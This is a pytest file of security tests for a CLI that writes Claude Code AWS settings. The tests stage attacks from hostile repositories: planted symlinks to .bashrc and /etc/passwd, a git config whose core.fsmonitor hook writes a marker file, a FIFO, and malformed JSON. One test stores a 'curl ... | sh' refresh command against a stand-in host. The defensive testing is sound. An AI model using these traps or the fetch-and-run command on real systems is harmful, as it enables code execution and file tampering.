"""Attacks on `apply`/`unapply` through the files a stranger controls (issue 8, parts 1-3, 9).

Each test builds what an attacker would ship: a real git repository with committed symlinks,
a hostile `.git/config`, a settings file Python's json reads but must not write back, a FIFO.
They drive the real command line and look at the disk afterwards.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from profiles.cli import main
from tests.cliutil import Cli, Run

KEY = "sk-ant-api03-Zx9Yw8Vu7Ts6Rq5Po4Nm-f3Qa"
WS = "wrkspc_01AbCdEf23GhIj"
BASHRC = "# my shell\nalias ll='ls -l'\n"

pytestmark = pytest.mark.skipif(
    shutil.which("git") is None or os.name != "posix", reason="needs git and symlinks"
)


@pytest.fixture
def cli(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Cli:
    """`cc-aws-tui ARGS` in this process; never prints the key."""

    def run(*args: str, stdin: str = "") -> Run:
        monkeypatch.setattr(sys, "stdin", io.StringIO(stdin))
        capsys.readouterr()
        try:
            code = main(list(args))
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else int(exc.code is not None)
        out, err = capsys.readouterr()
        assert KEY not in out + err
        return Run(code, out, err)

    return run


@pytest.fixture
def profiles(cli: Cli) -> None:
    """`key` (an API key, with a refresh command) and `sso` (no secret)."""
    base = ["--workspace", WS, "--region", "eu-west-3"]
    run = cli("add", "key", "--auth", "api-key", "--api-key-stdin", *base, stdin=KEY + "\n")
    assert run.code == 0, run.err
    run = cli("add", "sso", "--auth", "sigv4", "--aws-profile", "dev-sso", *base)
    assert run.code == 0, run.err


def git(root: Path, *args: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(
        GIT_AUTHOR_NAME="a",
        GIT_AUTHOR_EMAIL="a@example.com",
        GIT_COMMITTER_NAME="a",
        GIT_COMMITTER_EMAIL="a@example.com",
    )
    done = subprocess.run(
        ["git", *args], cwd=root, env=env, capture_output=True, text=True, check=True
    )
    return done.stdout


def cloned_repo(
    root: Path, files: dict[str, str], links: dict[str, str], ignore: str | None
) -> Path:
    """A repository as a clone would leave it: `files` and symlinks `links` committed,
    `.gitignore` holding `ignore`."""
    root.mkdir(parents=True)
    git(root, "init", "-q")
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    for name, target in links.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).symlink_to(target)
    if ignore is not None:
        (root / ".gitignore").write_text(ignore)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "upstream")
    return root


def listing(root: Path) -> dict[str, str]:
    """Every path under `root` (but .git): a link as `-> target`, a file by its content."""
    out: dict[str, str] = {}
    for here, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d != ".git"]
        for name in [*dirs, *files]:
            path = Path(here) / name
            rel = str(path.relative_to(root))
            if path.is_symlink():
                out[rel] = "-> " + os.readlink(path)
            elif path.is_dir():
                out[rel] = "dir"
            else:
                out[rel] = path.read_text(errors="replace")
    return out


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


# --- part 1: planted links beside the settings file --------------------------------------------


@pytest.mark.usefixtures("profiles")
def test_planted_bak_and_orig_links_are_never_written_through(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = Path.home()
    (home / ".bashrc").write_text(BASHRC)
    shared = home / "shared"
    shared.mkdir()
    os.chmod(shared, 0o1777)  # like /tmp: others' files, sticky
    (shared / "theirs").write_text("someone else's\n")
    repo = cloned_repo(
        home / "repo",
        files={".claude/settings.local.json": '{\n  "model": "opus"\n}\n'},
        links={
            ".claude/settings.local.json.bak": "../../.bashrc",
            ".claude/settings.local.json.cc-aws-tui.orig": "../../shared/planted",
        },
        ignore=".claude/settings.local.json\n",
    )
    assert git(repo, "ls-files").split() == [  # the settings file itself is ignored
        ".claude/settings.local.json.bak",
        ".claude/settings.local.json.cc-aws-tui.orig",
        ".gitignore",
    ]
    monkeypatch.chdir(repo)
    before = listing(repo)

    for args in (("apply", "key"), ("apply", "sso"), ("unapply",)):
        run = cli(*args, "--scope", "local")
        assert run.code == 0, run.err

    assert (home / ".bashrc").read_text() == BASHRC
    assert sorted(os.listdir(shared)) == ["theirs"]
    assert mode(shared) == 0o1777
    after = listing(repo)
    assert after == before  # unapply gave the same JSON back, and nothing else was written
    assert mode(repo / ".claude") == 0o755


@pytest.mark.usefixtures("profiles")
def test_backups_go_to_the_config_dir_and_restore_puts_them_back(
    cli: Cli, monkeypatch: pytest.MonkeyPatch, config_dir: Path
) -> None:
    original = '{\n\t"model": "opus"\n}\n'
    repo = cloned_repo(Path.home() / "repo", {}, {}, ".claude/settings.local.json\n")
    local = repo / ".claude" / "settings.local.json"
    local.parent.mkdir()
    local.write_text(original)
    monkeypatch.chdir(repo)

    run = cli("apply", "sso", "--scope", "local")
    assert run.code == 0, run.err
    assert "your file as it was is kept in" in run.err
    assert "cc-aws-tui restore --scope local" in run.err
    assert str(config_dir / "backups") in run.err
    for _ in range(3):  # more writes: key, sso, key ... each backs up the previous file
        for name in ("key", "sso"):
            assert cli("apply", name, "--scope", "local").code == 0
    # Only the settings file in the project; the backups private in the config dir.
    assert sorted(os.listdir(local.parent)) == ["settings.local.json"]
    assert git(repo, "status", "--porcelain", "--ignored", "-uall").splitlines() == [
        "!! .claude/settings.local.json"
    ]
    (store,) = (config_dir / "backups").iterdir()
    assert mode(config_dir / "backups") == mode(store) == 0o700
    assert sorted(p.name for p in store.iterdir()) == [
        *(f"bak-{n:06d}" for n in range(3, 8)),  # the last 5 of 7
        "index.json",
        "original",
    ]
    assert all(mode(p) == 0o600 for p in store.iterdir())
    assert (store / "original").read_text() == original

    listed = cli("backups", "--scope", "local")
    assert listed.code == 0
    assert listed.out.splitlines()[0] == f"{local} (local)"
    assert "original" in listed.out
    assert "apply sso" in listed.out
    assert str(store / "bak-000007") in listed.out

    newest = (store / "bak-000007").read_text()  # the file before the last apply (sso)
    assert json.loads(newest)["env"]["ANTHROPIC_AWS_API_KEY"] == KEY
    before_restore = local.read_text()
    run = cli("restore", "--scope", "local")
    assert run.code == 0, run.err
    assert local.read_text() == newest
    assert (store / "bak-000008").read_text() == before_restore  # restore backs up first
    run = cli("restore", "--scope", "local", "--original")
    assert run.code == 0, run.err
    assert local.read_text() == original
    # Numbers as `backups` lists them: 3 and 4 have rolled away (two restores added 8 and 9).
    assert cli("restore", "--scope", "local", "--backup", "3").code == 2
    fifth = (store / "bak-000005").read_text()
    assert cli("restore", "--scope", "local", "--backup", "5").code == 0
    assert local.read_text() == fifth


# --- part 2: nothing key-bearing reaches git ------------------------------------------------


@pytest.mark.usefixtures("profiles")
def test_only_the_ignored_settings_file_is_new_in_the_repository(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = cloned_repo(
        Path.home() / "repo", {"README": "hi\n"}, {}, ".claude/settings.local.json\n"
    )
    monkeypatch.chdir(repo)
    for name in ("sso", "key", "sso", "key"):  # the later writes have a previous file to keep
        assert cli("apply", name, "--scope", "local").code == 0
    assert git(repo, "status", "--porcelain", "--ignored", "-uall").splitlines() == [
        "!! .claude/settings.local.json"
    ]
    assert KEY in (repo / ".claude" / "settings.local.json").read_text()


# --- part 3: a key judged by where it really lands -------------------------------------------


@pytest.mark.usefixtures("profiles")
def test_local_settings_linked_to_the_committed_file_get_no_key(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    committed = '{"model": "opus"}\n'
    repo = cloned_repo(
        Path.home() / "repo",
        files={".claude/settings.json": committed},
        links={".claude/settings.local.json": "settings.json"},
        ignore=".claude/settings.local.json\n",
    )
    monkeypatch.chdir(repo)
    run = cli("apply", "key", "--scope", "local")
    assert run.code == 2
    assert run.err.count("\n") == 1
    assert f"{repo}/.claude/settings.local.json (a link to {repo}/.claude/settings.json)" in run.err
    assert "git tracks this file" in run.err
    assert (repo / ".claude" / "settings.json").read_text() == committed
    assert git(repo, "status", "--porcelain") == ""


@pytest.mark.usefixtures("profiles")
@pytest.mark.parametrize(
    ("links", "named"),
    [
        ({".claude": "../elsewhere"}, ".claude"),
        ({".claude/settings.local.json": "../../elsewhere/settings.json"}, "settings.local.json"),
        ({".claude/settings.json": "/etc/passwd"}, "settings.json"),
    ],
)
def test_links_out_of_the_project_are_refused_for_any_profile(
    cli: Cli, monkeypatch: pytest.MonkeyPatch, links: dict[str, str], named: str
) -> None:
    home = Path.home()
    (home / "elsewhere").mkdir()
    (home / "elsewhere" / "settings.json").write_text("{}\n")
    repo = cloned_repo(home / "repo", {}, links, ".claude/settings.local.json\n")
    monkeypatch.chdir(repo)
    for scope in ("local", "project"):
        run = cli("apply", "sso", "--scope", scope)
        if named == "settings.json" and scope == "local":
            continue
        if named == "settings.local.json" and scope == "project":
            continue
        assert run.code == 2, (scope, run.err)
        assert run.err.count("\n") == 1
        assert f"{named} is a link to" in run.err
        assert "does not write through it" in run.err
    assert sorted(os.listdir(home / "elsewhere")) == ["settings.json"]
    assert (home / "elsewhere" / "settings.json").read_text() == "{}\n"


@pytest.mark.usefixtures("profiles")
def test_a_dotfiles_link_into_a_repository_that_tracks_it_gets_no_key(cli: Cli) -> None:
    dotfiles = cloned_repo(Path.home() / "dotfiles", {"claude/settings.json": "{}\n"}, {}, None)
    user = Path.home() / ".claude" / "settings.json"
    user.parent.mkdir()
    user.symlink_to(dotfiles / "claude" / "settings.json")
    run = cli("apply", "key", "--scope", "user")
    assert run.code == 2
    assert "git tracks this file" in run.err
    assert (dotfiles / "claude" / "settings.json").read_text() == "{}\n"
    ok = cli("apply", "sso", "--scope", "user")  # no secret: the link is followed, and stays
    assert ok.code == 0, ok.err
    assert user.is_symlink()
    assert json.loads((dotfiles / "claude" / "settings.json").read_text())["awsCredentialExport"]


@pytest.mark.usefixtures("profiles")
def test_a_hostile_git_config_runs_nothing(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    home = Path.home()
    marker = home / "pwned"
    hook = home / "hook.sh"
    hook.write_text(f"#!/bin/sh\necho ran >> {marker}\n")
    hook.chmod(0o755)
    repo = cloned_repo(home / "repo", {}, {}, ".claude/settings.local.json\n")
    git(repo, "config", "core.fsmonitor", str(hook))  # what a shared/unpacked repo can carry
    monkeypatch.chdir(repo)
    for name in ("sso", "key"):
        run = cli("apply", name, "--scope", "local")
        assert run.code == 0, run.err
    assert not marker.exists()


# --- part 9: never write what is not strict JSON -------------------------------------------


@pytest.mark.usefixtures("profiles")
@pytest.mark.parametrize(
    ("text", "where", "why"),
    [
        ('{"x": 1E400}\n', "1:7", "too large for a JSON number"),
        ('{"x": -1e999, "y": 2}\n', "1:7", "too large for a JSON number"),
        ('{"x": NaN}\n', "1:7", "NaN is not JSON"),
        ('{"a": [Infinity]}\n', "1:8", "Infinity is not JSON"),
        (
            '{\n  "env": {"MINE": "1"},\n  "model": "opus",\n  "env": {"OTHER": "2"}\n}\n',
            "4:3",
            'duplicate key "env"',
        ),
        ('{"hooks": {"a": 1, "b": {"c": 1, "c": 2}}}\n', "1:34", 'duplicate key "c"'),
        ('{"statusLine": "\\ud800"}\n', "1:16", "lone surrogate"),
    ],
)
def test_settings_python_would_damage_are_refused_and_left_alone(
    cli: Cli, text: str, where: str, why: str, config_dir: Path
) -> None:
    user = Path.home() / ".claude" / "settings.json"
    user.parent.mkdir()
    user.write_text(text)
    for args in (("apply", "sso"), ("apply", "key"), ("unapply",)):
        run = cli(*args, "--scope", "user")
        if args == ("unapply",):
            assert run.code == 0  # nothing was applied: nothing to do
            continue
        assert run.code == 2, run.err
        assert run.out == ""
        assert run.err.count("\n") == 1
        assert f"{user}:{where}: " in run.err
        assert why in run.err
        assert "file left unchanged" in run.err
    assert user.read_text() == text
    assert not (config_dir / "backups").exists()


@pytest.mark.usefixtures("profiles")
def test_a_fifo_at_the_settings_path_is_refused_not_waited_on(tmp_path: Path) -> None:
    repo = cloned_repo(tmp_path / "repo", {}, {}, ".claude/settings.local.json\n")
    (repo / ".claude").mkdir()
    os.mkfifo(repo / ".claude" / "settings.local.json")
    script = Path(sys.executable).with_name("cc-aws-tui")
    command = [str(script)] if script.exists() else [sys.executable, "-m", "profiles.cli"]
    done = subprocess.run(
        [*command, "apply", "sso", "--scope", "local"],
        cwd=repo,
        capture_output=True,
        text=True,
        timeout=20,
        check=False,
    )
    assert done.returncode == 2, done.stderr
    assert "named pipe (FIFO), not a regular file" in done.stderr


# --- part 10d: a settings file's refresh command is shown, as a team file's is --------------


def test_import_from_settings_shows_the_refresh_command(cli: Cli) -> None:
    user = Path.home() / ".claude" / "settings.json"
    user.parent.mkdir()
    user.write_text(
        json.dumps(
            {
                "env": {
                    "CLAUDE_CODE_USE_ANTHROPIC_AWS": "1",
                    "ANTHROPIC_AWS_WORKSPACE_ID": WS,
                    "AWS_REGION": "eu-west-3",
                    "AWS_PROFILE": "dev",
                },
                "awsAuthRefresh": "curl -s https://example.invalid/x | sh",
            }
        )
    )
    run = cli("import", "dev", "--from-settings", "user")
    assert run.code == 0, run.err
    assert (
        "Claude Code will run this when AWS credentials expire:"
        " curl -s https://example.invalid/x | sh"
    ) in run.err
